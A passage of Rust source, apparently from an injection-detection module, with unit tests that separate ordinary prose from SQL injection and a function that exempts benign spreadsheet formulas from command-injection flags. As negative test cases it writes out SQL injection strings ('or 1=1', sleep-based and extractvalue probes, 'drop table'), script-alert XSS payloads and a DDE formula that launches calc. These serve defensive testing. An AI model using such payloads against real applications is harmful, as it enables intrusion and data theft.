            "<?php echo 1 ?><script>alert(1)</script>",
            "<?php $a=1; ?>",
            "<? x ?> onmouseover=alert(1) <? ?>",
            "<?xml version=\"1.0\"?>",
            "<?",
            "<?>",
        ] {
            assert!(!echo_template_tag(v), "{v:?}");
        }
    }

    #[test]
    fn questions_quoting_sql_are_prose() {
        for v in [
            "How do I SELECT * FROM users WHERE id = 1 in postgres?",
            "how to write select count(*) from table",
            "My report uses SELECT COUNT(*) FROM sales GROUP BY region",
            "best way to union select two tables",
            "Überprüfen Sie bitte select 1",
        ] {
            assert!(words_before_sql(v), "{v:?}");
        }
        for v in [
            // a connective, a keyword or a list among the first three words
            "admin or 1=1",
            "a b union select 1,2",
            "id desc limit 1",
            "a, b, c from users",
            "name alias final",
            "1 2 3 or 1=1",
            // a way out of a literal or an identifier later on
            "how do I ' or 1=1--",
            "my col name] or 1=1--",
            "my nice col` or 1=1 #",
            "see this thing $$ or 1=1",
            "a b c -- x",
            "one two three */ or 1=1",
            "a b c\\' or 1",
            "two words",
        ] {
            assert!(!words_before_sql(v), "{v:?}");
        }
    }

    #[test]
    fn comparisons_in_sentences_are_prose() {
        for v in [
            "either 1=1 or 2",
            "or 1=1 meaning",
            "OR 1=1 explanation",
            "is 1=1 true?",
            "is 1=1 true",
            "either 1=1 or 2=2 is a tautology",
        ] {
            assert!(comparison_in_prose(v), "{v}");
        }
        for v in [
            // conditions, statements, quotes and comments stay the model's
            "1 or 1=1",
            "id AND 1=1",
            "HOPE AND 8=3",
            "FacilityID and 1=0",
            "REAL 1 union select * from foo",
            "1 or 1=1 limit 1",
            "x' or 1=1 meaning",
            "1=1 -- meaning",
            "1 or 1=1 #why",
            "1 or sleep(5) why",
            "1 or 1=1",
            "or 1=1",
            "1=1 in sql why",
            "1 or 1=1 is true",
            "1 or 1 is null",
        ] {
            assert!(!comparison_in_prose(v), "{v}");
        }
    }

    #[test]
    fn words_and_literal_calls_are_prose() {
        for v in [
            "char(65)",
            "max(1, 2)",
            "COUNT(*) vs COUNT(1)",
            "mysql sleep() function",
            "sleep(8) hours?",
            "round(2.5) gives 3.",
            "concat('a', 'b c') example",
        ] {
            assert!(calls_in_prose(v), "{v}");
        }
        for v in [
            // keywords, nesting, names as arguments, operators, quotes outside calls
            "in (0,1)",
            "values (1, 2)",
            "select count(*) from t",
            "1 and sleep(5)",
            "concat(0x7e,version())",
            "extractvalue(1,concat(0x7e,user()))",
            "char(65)||char(66)",
            "char(65)=char(65)",
            "x' or char(65)",
            "ascii(substr(name,1,1))",
            "2(3)",
            "no call here",
            "char('a;b')",
        ] {
            assert!(!calls_in_prose(v), "{v}");
        }
    }

    #[test]
    fn measures_joined_by_connectives() {
        for v in [
            "1' or 2' long",
            "5' or 6' tall",
            "5' and 6' tall",
            "10\" or 12\" wide.",
            "1' or 2' or 3' tall",
            "3.5' or 4' long boards",
        ] {
            assert!(measures_joined(v), "{v}");
        }
        for v in [
            // tautologies that end the condition, comments, keywords, operands
            "1' or 2'",
            "1' or 2' --",
            "1' or 2' union",
            "1' or 2' union select",
            "1' or '1'='1",
            "1' or 1=1 x",
            "x' or 2' long",
            "1' or x' long",
            "1' or 2' long'",
            "1' or 2'#",
            "1' or sleep(5)' x",
            "1' or 2\" long",
            "1' long",
            "or 1' long",
            "1' or 2' from",
            "1' or 2' long; drop table t",
        ] {
            assert!(!measures_joined(v), "{v}");
        }
    }

    #[test]
    fn blank_masks() {
        for v in ["--/--/----", "--:--", "--.--.----", "-- / --"] {
            assert!(blank_mask(v), "{v}");
        }
        for v in ["--", "'--", "1--", "--/**/", "a--/--", "-- 1", "--/--/'"] {
            assert!(!blank_mask(v), "{v}");
        }
    }
}

/// Longest value read as a spreadsheet formula.
const MAX_FORMULA: usize = 512;

/// `=VLOOKUP(A2;Sheet2!A:C;3;FALSE)`, `=WENN(E5="";"-";E5*1,19)`: a spreadsheet formula
/// pasted into a field (in many locales with `;` between arguments). The value opens with
/// `=`, a function name and `(`, and closes that call at its end. For command injection
/// (which asks only of flagged values with a `;`), a POSIX shell reads
/// `=NAME` and then `(` as a syntax error and runs nothing of the line, and the value is one
/// line; cmd reads `;` as a blank, and PowerShell refuses `;` inside `( )`. Formulas that
/// reach a shell another way (DDE's `=cmd|' /C calc'!A0`) or hold expansions, `&` (cmd's
/// separator, though Excel's concatenation) or escapes are no such value.
pub(crate) fn spreadsheet_formula(v: &[u8]) -> bool {
    let t = v.trim_ascii();
    if t.len() > MAX_FORMULA || t.first() != Some(&b'=') || t.last() != Some(&b')') {
        return false;
    }
    let name = t[1..]
        .iter()
        .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_'))
        .count();
    if name < 2 || !t[1].is_ascii_alphabetic() || t.get(1 + name) != Some(&b'(') {
        return false;
    }
    // the call opened after the name closes at the value's last byte (string literals and
    // quoted sheet names skipped)
    let mut depth = 0usize;
    let mut quote = None;
    for (i, &b) in t.iter().enumerate().skip(1 + name) {
        // (`$A$1` is an absolute reference; `$(`, `${` would be expansions)
        if matches!(b, b'|' | b'&' | b'`' | b'\\' | b'\n' | b'\r' | 0)
            || (b == b'$' && matches!(t.get(i + 1), Some(b'(' | b'{')))
        {
            return false;
        }
        match (quote, b) {
            (Some(q), _) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'"' | b'\'') => quote = Some(b),
            (None, b'(') => depth += 1,
            (None, b')') => {
                depth -= 1;
                if depth == 0 && i + 1 != t.len() {
                    return false;
                }
            }
            _ => {}
        }
    }
    depth == 0 && quote.is_none()
}

#[cfg(test)]
mod formula_tests {
    use super::spreadsheet_formula;

    #[test]
    fn spreadsheet_formulas() {
        for v in [
            "=VLOOKUP(A2;Sheet2!A:C;3;FALSE)",
            "=WENN(E5=\"\";\"-\";E5*1,19)",
            "=IF(A1>0,\"yes\",\"no\")",
            "=SUM($A$1:$A$9)",
        ] {
            assert!(spreadsheet_formula(v.as_bytes()), "{v:?}");
        }
        for v in [
            "=cmd|' /C calc'!A0",
            "=A1+B1",
            "=SUM(A1:A9) and more",
            "=IF(1;$(id);2)",
            "=X(\"a\nb\")",
            "IF(A1>0,1,0)",
            "=SUM((A1)",
        ] {
            assert!(!spreadsheet_formula(v.as_bytes()), "{v:?}");
        }
    }
}
